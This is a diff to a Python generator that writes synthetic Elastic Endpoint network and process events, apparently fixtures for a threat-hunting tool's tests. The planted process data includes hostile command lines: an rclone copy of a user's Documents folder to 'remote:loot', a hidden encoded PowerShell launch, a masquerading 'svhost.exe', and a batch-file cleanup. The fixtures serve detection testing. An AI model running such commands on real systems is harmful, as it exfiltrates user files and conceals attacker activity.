@@ -4,11 +4,14 @@ Elastic sample event this project's tests are built around).
 
     python sample_data/generate.py            # rewrites the files beside this script
 
-It writes three layouts of one export (the same events split across them):
+It writes three layouts of one network export (the same events split across them):
 
 * ``endpoint-network.ndjson.gz``  nested ``_source`` documents, one per line, gzipped
 * ``elasticdump-hits.ndjson``     elasticdump hits (``_index``/``_id``/``_source``), CRLF
 * ``flattened.parquet``           dotted column names, as a pandas/Spark pipeline writes
+
+and ``endpoint-process.ndjson.gz``: process events (``logs-endpoint.events.process-*``)
+for the planted processes, their parents and children, and some others, for ``pivot``.
 
 and ``PLANTED.md``-style expectations live in :data:`PLANTED` for the tests.
 Deterministic: the same seed gives byte-identical files.
@@ -383,6 +386,161 @@ def build(rng: random.Random) -> list[dict[str, Any]]:
     return events
 
 
+#: Per planted pid: the parent's (executable, command line) and the process's command line.
+LAUNCHES = {
+    7312: (
+        r"C:\Windows\System32\cmd.exe",
+        r"cmd.exe /c C:\Users\jdoe\AppData\Local\Temp\run.bat",
+        r"rclone.exe copy C:\Users\jdoe\Documents remote:loot --transfers 8 -q",
+    ),
+    4420: (
+        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
+        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
+        "powershell.exe -nop -w hidden -enc SQBFAFgA",
+    ),
+    9001: (
+        r"C:\Windows\System32\services.exe",
+        r"C:\Windows\system32\services.exe",
+        r"C:\ProgramData\svc\svhost.exe -k netsvcs",
+    ),
+    5120: (
+        r"C:\Windows\explorer.exe",
+        r"C:\Windows\Explorer.EXE",
+        r'"C:\Program Files\Google\Chrome\Application\chrome.exe"',
+    ),
+}
+#: Children of the rclone process: (pid, executable, command line, minutes after its start).
+CHILDREN = [
+    (
+        7400,
+        r"C:\Windows\System32\conhost.exe",
+        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
+        0.1,
+    ),
+    (
+        7404,
+        r"C:\Windows\System32\cmd.exe",
+        r"cmd.exe /c del /q C:\Users\jdoe\AppData\Local\Temp\run.bat",
+        361.0,
+    ),
+]
+
+
+def process_event(*, ts: datetime, host: str, pid: int, executable: str, command_line: str,
+                  entity: str, parent: tuple[int, str, str] | None, action: str = "start",
+                  user: str = "jdoe", signed: bool = True,
+                  rng: random.Random) -> dict[str, Any]:  # fmt: skip
+    """One Endpoint process event (``logs-endpoint.events.process-*``), nested."""
+    agent = f"{zlib.crc32(host.encode()) % 10**8:08d}-0ec9-4961-805e-8ed2fc4c043b"
+    name = executable.rsplit("\\", 1)[-1]
+    digest = zlib.crc32(executable.encode())
+    frac = f"{ts.microsecond:06d}{rng.randint(0, 9)}"
+    stamp = ts.strftime("%Y-%m-%dT%H:%M:%S.") + frac + "Z"
+    process: dict[str, Any] = {
+        "entity_id": entity,
+        "pid": pid,
+        "executable": executable,
+        "name": name,
+        "command_line": command_line,
+        "args": command_line.split(" "),
+        "args_count": len(command_line.split(" ")),
+        "hash": {
+            "md5": f"{digest:08x}" * 4,
+            "sha1": f"{digest:08x}" * 5,
+            "sha256": f"{digest:08x}" * 8,
+        },
+        "code_signature": (
+            {"exists": True, "status": "trusted", "subject_name": "Microsoft Windows",
+             "trusted": True}
+            if signed
+            else {"exists": False}
+        ),
+        "Ext": {"ancestry": [parent[2]] if parent else []},
+    }  # fmt: skip
+    if parent:
+        process["parent"] = {
+            "pid": parent[0],
+            "executable": parent[1],
+            "name": parent[1].rsplit("\\", 1)[-1],
+            "entity_id": parent[2],
+        }
+    return {
+        "@timestamp": stamp,
+        "agent": {"id": agent, "type": "endpoint", "version": "8.15.3"},
+        "data_stream": {"dataset": "endpoint.events.process", "namespace": "default",
+                        "type": "logs"},
+        "ecs": {"version": "8.10.0"},
+        "event": {
+            "action": action,
+            "category": ["process"],
+            "type": ["start"] if action == "start" else ["end"],
+            "kind": "event",
+            "module": "endpoint",
+            "dataset": "endpoint.events.process",
+            "id": f"MYfZG5h8j1qej16H+p{pid}",
+            "sequence": rng.randint(1, 10**6),
+            "created": stamp,
+        },
+        "host": {"hostname": host, "name": host, "os": {"family": "windows", "type": "windows",
+                                                        "name": "Windows"}},
+        "message": "Endpoint process event",
+        "process": process,
+        "user": {"domain": "CORP" if user == "jdoe" else "NT AUTHORITY", "name": user},
+    }  # fmt: skip
+
+
+def build_processes(rng: random.Random) -> list[dict[str, Any]]:
+    """Process events: each launched planted process, its parent and (for rclone) its
+    children and its end; a few start events of other processes. Entity ids follow the
+    network events' own (see :func:`event`)."""
+    events: list[dict[str, Any]] = []
+    for _label, host, _family, pid, exe, *_rest in PLANTED:
+        if pid not in LAUNCHES:
+            continue
+        parent_exe, parent_cmd, command_line = LAUNCHES[pid]
+        agent = f"{zlib.crc32(host.encode()) % 10**8:08d}-0ec9-4961-805e-8ed2fc4c043b"
+        me = entity_id(agent, pid, 13293549109.7359497)
+        parent = entity_id(agent, pid - 1, 1.5)
+        first_hours = next(p[8][0] for p in PLANTED if p[3] == pid)
+        born = EXPORT_TIME - timedelta(hours=first_hours, minutes=5)
+        events.append(
+            process_event(ts=born - timedelta(minutes=30), host=host, pid=pid - 1,
+                          executable=parent_exe, command_line=parent_cmd, entity=parent,
+                          parent=None, user="SYSTEM" if pid != 7312 else "jdoe", rng=rng)
+        )  # fmt: skip
+        events.append(
+            process_event(ts=born, host=host, pid=pid, executable=exe, command_line=command_line,
+                          entity=me, parent=(pid - 1, parent_exe, parent), signed=pid != 7312,
+                          rng=rng)
+        )  # fmt: skip
+        if pid == 7312:
+            for child_pid, child_exe, child_cmd, minutes in CHILDREN:
+                events.append(
+                    process_event(ts=born + timedelta(minutes=minutes), host=host, pid=child_pid,
+                                  executable=child_exe, command_line=child_cmd,
+                                  entity=entity_id(agent, child_pid, 13293549200.0 + minutes),
+                                  parent=(pid, exe, me), rng=rng)
+                )  # fmt: skip
+            events.append(
+                process_event(ts=EXPORT_TIME - timedelta(minutes=20), host=host, pid=pid,
+                              executable=exe, command_line=command_line, entity=me,
+                              parent=(pid - 1, parent_exe, parent), action="end",
+                              signed=False, rng=rng)
+            )  # fmt: skip
+    for i in range(6):
+        host = WINDOWS_HOSTS[i]
+        agent = f"{zlib.crc32(host.encode()) % 10**8:08d}-0ec9-4961-805e-8ed2fc4c043b"
+        pid = 2000 + i
+        events.append(
+            process_event(ts=EXPORT_TIME - timedelta(hours=rng.uniform(1, 20)), host=host,
+                          pid=pid, executable=r"C:\Windows\System32\notepad.exe",
+                          command_line="notepad.exe", entity=entity_id(agent, pid, 7.0),
+                          parent=None, rng=rng)
+        )  # fmt: skip
+    events.sort(key=lambda e: e["@timestamp"])
+    return events
+
+
 def flatten(doc: dict[str, Any], prefix: str = "") -> dict[str, Any]:
     out: dict[str, Any] = {}
     for key, value in doc.items():
@@ -437,7 +595,11 @@ def write(directory: Path = HERE, seed: int = SEED) -> list[Path]:
     table = pa.table({name: [row.get(name) for row in flat_rows] for name in wanted})
     flat = directory / "flattened.parquet"
     pq.write_table(table, flat)
-    return [nested, dump, flat]
+    processes = directory / "endpoint-process.ndjson.gz"
+    with processes.open("wb") as raw, gzip.GzipFile(fileobj=raw, mode="wb", mtime=0) as out:
+        for doc in build_processes(random.Random(seed + 1)):
+            out.write(json.dumps(doc, separators=(",", ":")).encode() + b"\n")
+    return [nested, dump, flat, processes]
 
 
 if __name__ == "__main__":
